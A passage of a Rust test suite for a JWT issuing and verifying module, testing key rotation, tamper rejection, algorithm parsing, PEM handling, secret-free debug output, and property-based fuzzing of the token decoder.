    let before = jwt_at(&clock, &[&KEYS.rsa]);
    let during = jwt_at(&clock, &[&KEYS.strange_rsa, &KEYS.rsa]);
    let after = jwt_at(&clock, &[&KEYS.strange_rsa]);
    let old = before.issue(&alice(), Scope::User).unwrap();
    let new = during.issue(&alice(), Scope::User).unwrap();
    assert!(before.verify(&old).is_ok() && before.verify(&new).is_err());
    assert!(during.verify(&old).is_ok() && during.verify(&new).is_ok());
    assert!(after.verify(&old).is_err() && after.verify(&new).is_ok());
    let kids = |jwt: &Jwt| -> Vec<String> {
        jwt.jwks()["keys"].as_array().unwrap().iter().map(|k| k["kid"].as_str().unwrap().to_owned()).collect()
    };
    assert_eq!(kids(&during), [KEYS.strange_rsa.kid(), KEYS.rsa.kid()]);
    assert_eq!(kids(&after), [KEYS.strange_rsa.kid()]);
}

/// A14: a token signed by us without `userid` or `clientid` made the original panic.
#[test]
fn signed_token_without_ids_is_an_error() {
    for key in [&KEYS.rsa, &KEYS.ed, &KEYS.ec] {
        for gone in [&["userid"][..], &["clientid"], &["userid", "clientid"], &["userid", "clientid", "sub"]]
        {
            let mut claims = good_claims();
            gone.iter().for_each(|name| drop(claims.as_object_mut().unwrap().remove(*name)));
            let error =
                server().verify(&signed(key, good_header(key).to_string(), claims.to_string())).unwrap_err();
            assert_eq!((error.kind(), error.message()), (ErrorKind::Unauthenticated, MESSAGE), "{gone:?}");
        }
    }
}

#[test]
fn no_single_character_can_be_changed() {
    let server = server();
    let token = signed(&KEYS.ed, good_header(&KEYS.ed).to_string(), good_claims().to_string());
    assert!(server.verify(&token).is_ok());
    for i in 0..token.len() {
        for c in ["A", "B", "_", ".", "=", " "] {
            let mut changed = token.clone();
            changed.replace_range(i..=i, c);
            assert!(changed == token || server.verify(&changed).is_err(), "character {i} as {c:?}");
        }
        let mut shorter = token.clone();
        shorter.remove(i);
        assert!(server.verify(&shorter).is_err(), "character {i} removed");
    }
}

#[test]
fn unfit_settings_are_refused() {
    let make = |keys: Vec<SigningKey>, config| {
        Jwt::new(keys, config, Arc::new(ManualClock::at(0)), Arc::new(SeededEntropy::new(1))).map(drop)
    };
    let invalid = |r: beep_core::Result<()>| assert_eq!(r.unwrap_err().kind(), ErrorKind::Invalid);
    invalid(make(vec![], JwtConfig::default()));
    for text in [String::new(), "b".repeat(257), "be\nep".into(), "bäp".into()] {
        invalid(make(vec![KEYS.ed.clone()], JwtConfig { issuer: text.clone(), ..JwtConfig::default() }));
        invalid(make(vec![KEYS.ed.clone()], JwtConfig { audience: text, ..JwtConfig::default() }));
    }
    make(vec![KEYS.ed.clone()], JwtConfig::default()).unwrap();
}

#[test]
fn random_source_that_fails_issues_nothing() {
    #[derive(Debug)]
    struct Dry;
    impl beep_core::clock::Entropy for Dry {
        fn fill(&self, _: &mut [u8]) -> beep_core::Result<()> {
            Err(beep_core::Error::new(ErrorKind::Internal, "dry"))
        }
    }
    let clock: Arc<dyn Clock> = Arc::new(ManualClock::at(0));
    let jwt = Jwt::new(vec![KEYS.ed.clone()], JwtConfig::default(), clock, Arc::new(Dry)).unwrap();
    assert_eq!(jwt.issue(&alice(), Scope::User).unwrap_err().kind(), ErrorKind::Internal);
}

#[test]
fn algorithms_have_one_word() {
    for algorithm in Algorithm::ALL {
        assert_eq!(Algorithm::parse(algorithm.as_str()).unwrap(), algorithm);
        assert_eq!(serde_json::to_value(algorithm).unwrap(), json!(algorithm.to_string()));
        assert_eq!(SigningKey::generate(algorithm).unwrap().algorithm(), algorithm);
    }
    assert_eq!(Algorithm::default(), Algorithm::Rs256);
    for wrong in ["", "none", "HS256", "rs256"] {
        assert_eq!(Algorithm::parse(wrong).unwrap_err().kind(), ErrorKind::Malformed);
    }
}

#[test]
fn keys_survive_pem() {
    for key in [&KEYS.rsa, &KEYS.ed, &KEYS.ec] {
        let pem = key.to_pem();
        assert!(pem.lines().all(|l| l.len() <= 64) && pem.ends_with("-----END PRIVATE KEY-----\n"));
        assert_eq!(key.kid().len(), 16);
        for spelling in
            [pem.clone(), pem.replace('\n', "\r\n"), format!("\n\n{pem}\n"), pem.trim_end().into()]
        {
            let same = SigningKey::from_pem(&spelling).unwrap();
            assert_eq!(
                (same.kid(), same.algorithm(), same.to_pem()),
                (key.kid(), key.algorithm(), pem.clone())
            );
            assert_eq!(same.jwk(), key.jwk());
        }
        for (_, private) in ["d", "p", "q", "dp", "dq", "qi", "k"].map(|name| (name, key.jwk()[name].clone()))
        {
            assert_eq!(private, Value::Null, "a JWK is public");
        }
    }
    let kids = [&KEYS.rsa, &KEYS.ed, &KEYS.ec, &KEYS.strange_rsa, &KEYS.strange_ed].map(SigningKey::kid);
    assert_eq!(std::collections::HashSet::from(kids).len(), 5);
}

#[test]
fn broken_pem_is_a_sentence_without_the_key() {
    let pem = KEYS.rsa.to_pem();
    let body: String = pem.lines().filter(|l| !l.starts_with('-')).collect();
    let lines: Vec<&str> = pem.lines().collect();
    let p384 = EcdsaKeyPair::generate(&ECDSA_P384_SHA384_FIXED_SIGNING).unwrap().to_pkcs8v1().unwrap();
    let block = |body: &str| format!("-----BEGIN PRIVATE KEY-----\n{body}\n-----END PRIVATE KEY-----\n");
    for (name, text, kind) in [
        ("nothing", String::new(), ErrorKind::Malformed),
        ("a word", "hunter2".into(), ErrorKind::Malformed),
        ("the body alone", body.clone(), ErrorKind::Malformed),
        ("PKCS#1", pem.replace(" PRIVATE", " RSA PRIVATE"), ErrorKind::Malformed),
        ("encrypted", pem.replace(" PRIVATE", " ENCRYPTED PRIVATE"), ErrorKind::Malformed),
        ("public", pem.replace(" PRIVATE", " PUBLIC"), ErrorKind::Malformed),
        ("two keys", format!("{pem}{pem}"), ErrorKind::Malformed),
        ("no last line", lines[..lines.len() - 1].join("\n"), ErrorKind::Malformed),
        ("text before", format!("key: {pem}"), ErrorKind::Malformed),
        ("not base64", block(&format!("{}!{}", &body[..70], &body[71..])), ErrorKind::Malformed),
        ("an empty block", block(""), ErrorKind::Invalid),
        ("a line missing", pem.replace(lines[5], ""), ErrorKind::Invalid),
        ("cut", block(&body[..400]), ErrorKind::Invalid),
        ("a changed byte", block(&format!("{}AAAA{}", &body[..600], &body[604..])), ErrorKind::Invalid),
        ("P-384", block(&BASE64_STANDARD.encode(p384.as_ref())), ErrorKind::Invalid),
        ("not a key", block(&BASE64_STANDARD.encode("hunter2 hunter2")), ErrorKind::Invalid),
    ] {
        let error = SigningKey::from_pem(&text).expect_err(name);
        assert_eq!(error.kind(), kind, "{name}");
        let said = format!("{error} {error:?}");
        assert!(!said.contains("hunter2"), "{name}: {said}");
        // No eight letters of the secret anywhere.
        let shown = text.lines().filter(|l| !l.contains("-----")).flat_map(|l| l.as_bytes().windows(8));
        assert_eq!(
            shown.filter(|w| said.contains(&*String::from_utf8_lossy(w))).count(),
            0,
            "{name}: {said}"
        );
    }
}

/// R28: neither key nor token is in any `Debug` or error.
#[test]
fn debug_shows_no_secret() {
    for key in [&KEYS.rsa, &KEYS.ed, &KEYS.ec] {
        let jwt = jwt_at(&Arc::new(ManualClock::at(NOW * 1_000)), &[key]);
        let token = jwt.issue(&alice(), Scope::User).unwrap();
        let verified = jwt.verify(&token).unwrap();
        let bad = jwt.verify(&format!("{token}A")).unwrap_err();
        let shown = format!("{key:?} {key:#?} {jwt:?} {jwt:#?} {verified:?} {bad:?} {bad}");
        assert!(shown.contains(key.kid()), "a key is told by its kid");
        let pem = key.to_pem();
        let secrets = pem.lines().filter(|l| !l.starts_with('-')).flat_map(|l| l.as_bytes().windows(8));
        let parts = token.split('.').flat_map(|p| p.as_bytes().windows(16));
        for secret in secrets.chain(parts).map(|w| std::str::from_utf8(w).unwrap()) {
            assert!(!shown.contains(secret), "{secret} in {shown}");
        }
    }
}

fn refused(token: &str) -> Result<(), TestCaseError> {
    let error = server().verify(token).expect_err("not a token");
    prop_assert_eq!((error.kind(), error.message()), (ErrorKind::Unauthenticated, MESSAGE));
    Ok(())
}

/// JSON of any shape, with the names that matter turning up often.
fn any_json() -> impl Strategy<Value = Value> {
    let leaf = prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::from),
        any::<u64>().prop_map(Value::from),
        any::<f64>().prop_map(Value::from),
        Just(json!("u-alice")),
        Just(json!("beep")),
        ".{0,20}".prop_map(Value::from),
    ];
    let name = prop_oneof![
        proptest::sample::select(vec![
            "userid", "clientid", "sub", "iss", "aud", "iat", "exp", "nbf", "jti", "scope"
        ])
        .prop_map(str::to_owned),
        ".{0,8}",
    ];
    leaf.prop_recursive(3, 24, 10, move |inner| {
        prop_oneof![
            proptest::collection::vec(inner.clone(), 0..6).prop_map(Value::from),
            proptest::collection::vec((name.clone(), inner), 0..10)
                .prop_map(|m| Value::Object(m.into_iter().collect())),
        ]
    })
}

proptest! {
    #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::default() })]

    /// A14, R14 (`jwt_decode`): no text makes the decoder panic, and none is believed.
    #[test]
    fn jwt_decode(text in any::<String>(), token in "[A-Za-z0-9_-]{0,80}(\\.[A-Za-z0-9_=.-]{0,80}){0,4}") {
        refused(&text)?;
        refused(&token)?;
    }

    /// The same behind a signature that holds, where the parsers of header and claims are reached.
    #[test]
    fn jwt_decode_signed(header in any_json(), payload in any_json(), bytes in any::<Vec<u8>>()) {
        let key = &KEYS.ed;
        refused(&signed(key, header.to_string(), good_claims().to_string()))?;
        refused(&signed(key, good_header(key).to_string(), payload.to_string()))?;
        refused(&signed(key, good_header(key).to_string(), &bytes))?;
        refused(&signed(key, &bytes, good_claims().to_string()))?;
    }

    /// One claim replaced by anything: believed only where the value itself is fit.
    #[test]
    fn jwt_decode_one_claim(
        name in proptest::sample::select(vec!["userid", "clientid", "sub", "iss", "aud", "iat", "exp", "nbf", "jti", "scope"]),
        value in any_json(),
    ) {
        let key = &KEYS.ed;
        let mut claims = good_claims();
        claims[name] = value.clone();
        let result = server().verify(&signed(key, good_header(key).to_string(), claims.to_string()));
        let text = value.as_str();
        let fit = match name {
            "clientid" => text.is_some_and(|t| (1..=128).contains(&t.chars().count()) && t.chars().all(|c| (' '..='~').contains(&c))),
            "iat" | "nbf" => value.as_u64().is_some_and(|v| v <= NOW + LEEWAY),
            "exp" => value.as_u64().is_some_and(|v| v > NOW - LEEWAY),
            "jti" => text.is_some_and(|t| !t.is_empty()),
            "scope" => matches!(text, Some("user" | "service" | "admin")),
            _ => value == good_claims()[name],
        };
        prop_assert_eq!(result.is_ok(), fit, "{}: {}", name, value);
    }

    /// Whoever is named, the token says so.
    #[test]
    fn issued_is_verified(user in "[A-Za-z0-9-]{1,64}", device in "[ -~]{1,128}", now in 0..u64::MAX / 4_000) {
        let jwt = jwt_at(&Arc::new(ManualClock::at(now)), &[&KEYS.ed]);
        let who = Identity { user: user.parse()?, device: device.parse()? };
        prop_assert_eq!(&jwt.verify(&jwt.issue(&who, Scope::User)?)?.identity, &who);
    }
}
